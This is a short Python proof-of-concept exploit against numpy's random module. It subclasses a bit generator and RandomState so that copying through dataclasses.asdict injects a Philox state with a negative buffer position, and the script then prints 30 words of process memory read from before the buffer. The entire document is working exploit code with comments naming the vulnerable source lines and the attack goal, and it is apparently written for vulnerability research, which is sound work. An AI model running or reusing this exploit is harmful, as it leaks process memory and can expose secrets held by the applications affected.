# source: numpy/random/mtrand.pyx RandomState.__reduce__ (generator name from self._bit_generator.state, state from self.get_state(), both overridable) and __setstate__ -> set_state; numpy/random/_philox.pyx Philox.state setter (buffer_pos unchecked); dataclasses._asdict_inner -> copy.deepcopy
# family: copy-protocol state injection into a bit generator's unchecked state setter (RandomState subclass over a BitGenerator subclass, deep-copied by dataclasses.asdict inside a list field)
# goal: a legacy RandomState over Philox with buffer_pos = -30: each draw reads 8 bytes of process memory before Philox's buffer
import dataclasses
import numpy as np

PHILOX_STATE = {"bit_generator": "Phi" + "lox",
                "state": {"counter": np.zeros(4, dtype=np.uint64),
                          "key": np.zeros(2, dtype=np.uint64)},
                "buffer": np.zeros(4, dtype=np.uint64),
                "buffer_pos": -30,
                "has_uint32": 0, "uinteger": 0,
                "has_gauss": 0, "gauss": 0.0}


class Named(np.random.PCG64DXSM):
    state = PHILOX_STATE


class Legacy(np.random.RandomState):
    def get_state(self, legacy=True):
        return PHILOX_STATE


@dataclasses.dataclass
class Holder:
    gens: list


rs = dataclasses.asdict(Holder([Legacy(Named(1))]))["gens"][0]
raw = rs.randint(0, 2 ** 63, size=30, dtype=np.uint64)
print("words read before the Philox buffer (64-bit, top bit cleared by randint's mask):")
print(" ".join("%016x" % int(v) for v in raw))
print(type(rs), rs.get_state(legacy=False)["bit_generator"])
